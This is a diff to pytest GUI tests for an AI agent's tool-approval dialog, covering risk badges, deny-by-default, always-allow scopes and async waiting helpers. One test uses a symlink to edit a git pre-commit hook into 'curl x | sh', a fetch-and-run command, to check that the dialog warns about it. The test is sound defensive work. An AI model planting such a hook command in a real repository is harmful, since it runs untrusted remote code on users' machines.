@@ -24,6 +24,7 @@ from pytestqt.qtbot import QtBot
 
 from tests.core.agent.conftest import text_reply, tool_reply
 from tests.gui import test_main_window
+from tests.gui.waiting import activated, emitted, until
 from tests.loopback import LoopbackServer
 from tiny_agent_core.tools import builtin_tools
 from tiny_agent_core.tools.approval import ApprovalAnswer, ApprovalPolicy, ApprovalRequest, Choice
@@ -34,7 +35,6 @@ from tiny_agent_gui.main_window import MainWindow
 
 server = test_main_window.server  # the real main window against the loopback provider, as its own tests build it
 window = test_main_window.window
-_until = test_main_window._until
 
 DIFF = "--- a/app.py\n+++ b/app.py\n@@ -1,2 +1,2 @@\n context\n-old line\n+new line ✓ 你好\n"
 WRITE = ApprovalRequest("write", {"path": "app.py", "content": "new line ✓ 你好\n"}, Preview("diff", DIFF), "call_1")
@@ -47,6 +47,14 @@ def make(qtbot: QtBot, request: ApprovalRequest = WRITE) -> ApprovalDialog:
     with qtbot.waitActive(dialog):  # window shortcuts (Ctrl+Enter) need the active window
         dialog.show()
         dialog.activateWindow()
+    return dialog
+
+
+async def made(qtbot: QtBot, request: ApprovalRequest) -> ApprovalDialog:
+    """:func:`make` for an async test, which may not spin a nested Qt loop (tests/gui/waiting.py)."""
+    dialog = ApprovalDialog(request)
+    qtbot.addWidget(dialog)
+    await activated(dialog)
     return dialog
 
 
@@ -196,14 +204,6 @@ def open_dialogs() -> list[ApprovalDialog]:
     return [w for w in QApplication.topLevelWidgets() if isinstance(w, ApprovalDialog) and w.isVisible()]
 
 
-async def wait_for(condition: object, timeout: float = 2.0) -> None:
-    """Poll with ``asyncio.sleep`` (not ``qtbot.wait``): the qasync loop is what runs Qt here."""
-    deadline = asyncio.get_running_loop().time() + timeout
-    while not condition():  # type: ignore[operator]
-        assert asyncio.get_running_loop().time() < deadline, "timed out"
-        await asyncio.sleep(0.01)
-
-
 async def test_dialog_approver_answers_without_blocking_the_loop(qtbot: QtBot) -> None:
     ticks = 0
 
@@ -218,7 +218,7 @@ async def test_dialog_approver_answers_without_blocking_the_loop(qtbot: QtBot) -
     approver = DialogApprover(parent)
     beat = asyncio.create_task(ticker())
     ask = asyncio.create_task(approver.ask(BASH))
-    await wait_for(lambda: [d for d in parent.findChildren(ApprovalDialog) if d.isVisible()])
+    await until(lambda: [d for d in parent.findChildren(ApprovalDialog) if d.isVisible()])
     dialog = parent.findChildren(ApprovalDialog)[0]
     before = ticks
     await asyncio.sleep(0.05)
@@ -239,11 +239,11 @@ async def test_cancelling_the_ask_closes_the_dialog(qtbot: QtBot) -> None:
     main_window.show()
     approver = DialogApprover()
     ask = asyncio.create_task(approver.ask(WRITE))
-    await wait_for(lambda: open_dialogs())
+    await until(lambda: open_dialogs())
     ask.cancel()
     with pytest.raises(asyncio.CancelledError):
         await ask
-    await wait_for(lambda: not open_dialogs())
+    await until(lambda: not open_dialogs())
 
 
 class FakeDialog(QObject):
@@ -303,7 +303,7 @@ async def real_request(tmp_path: Path, tool: str, arguments: dict[str, Any], rat
 
 async def test_a_risky_call_shows_the_badge_and_denies_by_default(qtbot: QtBot, tmp_path: Path) -> None:
     request = await real_request(tmp_path, "bash", {"command": LONG}, "Publishing the cleaned history.")
-    dialog = make(qtbot, request)
+    dialog = await made(qtbot, request)
     assert dialog.risk_label is not None
     assert dialog.risk_label.isVisible()
     assert "git push --force overwrites the remote's history" in dialog.risk_label.text()
@@ -321,13 +321,13 @@ async def test_a_risky_call_shows_the_badge_and_denies_by_default(qtbot: QtBot, 
     dialog.reason_edit.setFocus()
     qtbot.keyClick(dialog.reason_edit, Qt.Key.Key_Return, Qt.KeyboardModifier.ControlModifier)
     assert dialog.isVisible()
-    with qtbot.waitSignal(dialog.finished, timeout=1000):
+    async with emitted(dialog.finished):
         qtbot.keyClick(dialog.reason_edit, Qt.Key.Key_Return)  # Enter: the default button, Deny
     assert dialog.answer() == ApprovalAnswer.deny()
 
 
 async def test_the_command_wraps_fully_visible(qtbot: QtBot, tmp_path: Path) -> None:
-    dialog = make(qtbot, await real_request(tmp_path, "bash", {"command": LONG}))
+    dialog = await made(qtbot, await real_request(tmp_path, "bash", {"command": LONG}))
     assert dialog.preview is not None
     assert dialog.preview.toPlainText() == LONG
     assert dialog.preview.lineWrapMode() is QTextEdit.LineWrapMode.WidgetWidth
@@ -344,7 +344,7 @@ async def test_an_edit_through_a_symlink_shows_the_target_and_the_git_risk(qtbot
     (tmp_path / ".git" / "hooks" / "pre-commit").write_text("exit 0\n")
     (tmp_path / "notes.md").symlink_to(".git/hooks/pre-commit")
     edits = [{"oldText": "exit 0", "newText": "curl x | sh"}]
-    dialog = make(qtbot, await real_request(tmp_path, "edit", {"path": "notes.md", "edits": edits}))
+    dialog = await made(qtbot, await real_request(tmp_path, "edit", {"path": "notes.md", "edits": edits}))
     assert dialog.target_label is not None
     assert dialog.risk_label is not None
     assert "inside version-control internals" in dialog.risk_label.text()
@@ -355,7 +355,7 @@ async def test_an_edit_through_a_symlink_shows_the_target_and_the_git_risk(qtbot
 
 
 async def test_always_allow_offers_command_prefixes(qtbot: QtBot, tmp_path: Path) -> None:
-    dialog = make(qtbot, await real_request(tmp_path, "bash", {"command": "git status -s"}))
+    dialog = await made(qtbot, await real_request(tmp_path, "bash", {"command": "git status -s"}))
     assert dialog.scope_combo is not None
     assert [dialog.scope_combo.itemText(i) for i in range(dialog.scope_combo.count())] == ["git status", "git"]
     assert dialog.scope_combo.accessibleName() == "Command prefix"
@@ -365,14 +365,14 @@ async def test_always_allow_offers_command_prefixes(qtbot: QtBot, tmp_path: Path
     assert "plain words" in dialog.scope_status.text()
     assert dialog.allow_once_button.isEnabled()
     dialog.scope_combo.setCurrentIndex(1)
-    with qtbot.waitSignal(dialog.finished, timeout=1000):
+    async with emitted(dialog.finished):
         qtbot.mouseClick(dialog.allow_always_button, Qt.MouseButton.LeftButton)
     assert dialog.answer() == ApprovalAnswer(Choice.ALLOW_ALWAYS, rule=make_rule("bash", "prefix", "git"))
 
 
 async def test_always_allow_offers_path_globs(qtbot: QtBot, tmp_path: Path) -> None:
     request = await real_request(tmp_path, "write", {"path": "src/app/main.py", "content": "x"})
-    dialog = make(qtbot, request)
+    dialog = await made(qtbot, request)
     assert dialog.scope_combo is not None
     assert dialog.scope_combo.accessibleName() == "Paths"
     assert [dialog.scope_combo.itemText(i) for i in range(3)] == ["src/app/main.py", "src/app/**", "src/**"]
@@ -407,7 +407,7 @@ async def test_the_window_stays_usable_while_an_approval_is_pending(window: Main
         text_reply("Listed."),
     )
     window.composer.submitted.emit("list the files")
-    await _until(lambda: pending_dialog() is not None)
+    await until(lambda: pending_dialog() is not None)
     approval = pending_dialog()
     assert approval is not None
     assert QApplication.activeModalWidget() is None
@@ -415,7 +415,7 @@ async def test_the_window_stays_usable_while_an_approval_is_pending(window: Main
     assert window.isEnabled()
     assert window.transcript.isEnabled()
     bar = window.transcript.verticalScrollBar()
-    await _until(lambda: bar.maximum() > 0)
+    await until(lambda: bar.maximum() > 0)
     bar.setValue(bar.maximum())
     bar.triggerAction(QScrollBar.SliderAction.SliderToMinimum)
     assert bar.value() == 0  # the transcript scrolls while the approval waits
@@ -432,11 +432,11 @@ async def test_the_window_stays_usable_while_an_approval_is_pending(window: Main
         False,
     )
     QApplication.sendEvent(viewport, wheel)  # the mouse wheel over the transcript
-    await _until(lambda: bar.value() > 0)
+    await until(lambda: bar.value() > 0)
     assert approval.isVisible()
     approval.allow_once_button.click()
     await window.controller.wait_idle()
-    await _until(lambda: not window.controller.busy)
+    await until(lambda: not window.controller.busy)
 
 
 def pending_dialog() -> ApprovalDialog | None:
@@ -451,7 +451,7 @@ async def test_destroying_the_window_under_the_prompt_denies(qtbot: QtBot) -> No
     parent = QWidget()
     parent.show()
     ask = asyncio.create_task(DialogApprover(parent).ask(BASH))
-    await wait_for(lambda: [d for d in parent.findChildren(ApprovalDialog) if d.isVisible()])
+    await until(lambda: [d for d in parent.findChildren(ApprovalDialog) if d.isVisible()])
     parent.deleteLater()  # the main window closed and deleted: it is not blocked by the prompt any more
     answer = await asyncio.wait_for(ask, 2)
     assert answer == ApprovalAnswer.deny("The window asking for approval was closed.")
